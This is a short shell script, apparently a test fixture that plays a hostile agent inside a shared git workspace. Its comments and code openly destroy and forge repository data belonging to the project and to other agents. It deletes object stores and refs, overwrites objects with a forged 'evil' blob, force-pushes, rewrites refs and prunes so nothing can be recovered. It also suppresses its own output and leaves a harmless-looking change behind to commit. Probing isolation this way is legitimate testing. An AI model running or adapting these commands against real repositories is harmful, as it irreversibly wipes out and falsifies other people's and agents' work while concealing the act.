# Destroys, forges and moves what is the project's and other agents', from its own repository. $1: the project's
# git folder. Leaves a change behind, so that there is something to commit.
own=$(git rev-parse --absolute-git-dir)
exec 3>&1 >/dev/null 2>&1
evil=$(echo evil | git hash-object -w --stdin)
for git in "$1" "$(git rev-parse --git-common-dir)/../../.git"; do
    rm -rf "$git"/objects/?? "$git"/objects/pack "$git"/refs
    for object in $(find "$git/objects" -type f); do
        chmod u+w "$object"; : >"$object"; mv "$object" "$object.gone"; ln -f "$object" hard
        cp "$own/objects/${evil:0:2}/${evil:2}" "$object"
    done
    mkdir -p "$git/objects/ff"; cp "$own/objects/${evil:0:2}/${evil:2}" "$git/objects/ff/"
    git --git-dir="$git" update-ref refs/heads/main HEAD
    git push --force "$git" HEAD:refs/heads/main
    for ref in $(git for-each-ref --format='%(refname)' refs/heads/midturn refs/midturn); do
        git --git-dir="$git" update-ref "$ref" HEAD; rm -f "$git/$ref"; echo "$evil" >"$git/$ref"
    done
    git --git-dir="$git" gc --prune=now; git --git-dir="$git" repack -adf; git -C "$git" prune
done
# The same through its own, which borrows.
mkdir old && mv "$own/objects" old/ && ln -s "$1/objects" "$own/objects"
git gc --prune=now; git repack -adf; git prune; echo x | git hash-object -w --stdin; git commit --allow-empty -m x
rm -f "$own/objects"; mv old/objects "$own/"; rmdir old
# An object of everybody's with another content.
readme=$(git rev-parse HEAD:README)
mkdir -p "$own/objects/${readme:0:2}"; cp "$own/objects/${evil:0:2}/${evil:2}" "$own/objects/${readme:0:2}/${readme:2}"
exec >&3
echo change >change.txt
echo done
